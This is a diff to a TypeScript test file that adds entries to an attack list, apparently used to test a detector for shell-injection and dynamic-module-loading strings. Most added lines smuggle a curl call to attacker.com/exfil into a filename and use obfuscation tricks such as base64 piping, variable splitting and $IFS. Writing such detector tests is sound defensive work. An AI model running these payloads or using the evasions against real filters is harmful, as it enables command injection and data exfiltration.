@@ -332,6 +332,32 @@ const ATTACKS: Array<[keyof typeof CLASSES, string]> = [
   ["shellTricks", "list files in `who$()ami`"],
   ["shellTricks", "save to path; pyth``on -c 'import os; os.system(\"id\")'"],
   ["shellTricks", "grep 'error' /var/log/app.log | t$()ee /tmp/exfil.txt"],
+  ["shellTricks", "filename; $(which curl) http://attacker.com/exfil"],
+  ["shellTricks", "filename; `which curl` http://attacker.com/exfil"],
+  ["shellTricks", "filename; command curl http://attacker.com/exfil"],
+  ["shellTricks", "filename; env curl http://attacker.com/exfil"],
+  ["shellTricks", "filename; exec curl http://attacker.com/exfil"],
+  ["shellTricks", "filename; nohup curl http://attacker.com/exfil &"],
+  ["shellTricks", "filename; timeout 5 curl http://attacker.com/exfil"],
+  ["shellTricks", "filename; sudo curl http://attacker.com/exfil"],
+  ["shellTricks", "filename; \\curl http://attacker.com/exfil"],
+  ["shellTricks", "filename; 'curl' http://attacker.com/exfil"],
+  ["shellTricks", "filename; \"curl\" http://attacker.com/exfil"],
+  ["shellTricks", "filename; /bin/sh -c 'curl http://attacker.com/exfil'"],
+  ["shellTricks", "filename; xargs curl < urls.txt"],
+  ["shellTricks", "filename; python3 -m http.server 8000"],
+  ["shellTricks", "filename; CURL=curl; $CURL http://attacker.com/exfil"],
+  ["shellTricks", "filename; c=curl; $c http://attacker.com/exfil"],
+  ["shellTricks", "filename; a=cu;b=rl;$a$b http://attacker.com/exfil"],
+  ["shellTricks", "filename; eval \"cu\"\"rl http://attacker.com/exfil\""],
+  ["shellTricks", "filename; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuY29tL2V4Zmls | base64 -d | sh"],
+  ["shellTricks", "filename; curl$IFS'http://attacker.com/exfil'"],
+  ["dynamicLoad", "Loads handlers via require(`./handlers/${name}`)."],
+  ["dynamicLoad", "Loads handlers via require('./handlers/' + name)."],
+  ["dynamicLoad", "Uses importlib.import_module(f\"plugins.{plugin_name}\") to load the plugin."],
+  ["dynamicLoad", "Uses require with a variable module path to load the requested handler at runtime."],
+  ["dynamicLoad", "Loads the module whose path the caller passes, using a dynamic import()."],
+  ["dynamicLoad", "Resolves the handler at runtime: import(`./${req.query.handler}.js`)."],
 ];
 
 const LOOK_ALIKES: string[] = [
@@ -370,6 +396,9 @@ const LOOK_ALIKES: string[] = [
   "Filters by tags {red,green} or by owner.",
   "Runs after every other tool finishes.",
   "Works well with other tools.",
+  "Requires curl; install it with your package manager.",
+  "Set EDITOR=vim; then $EDITOR opens the file.",
+  "Check that curl exists with `command -v curl` before calling.",
 ];
 
 for (const [attackClass, text] of ATTACKS) {
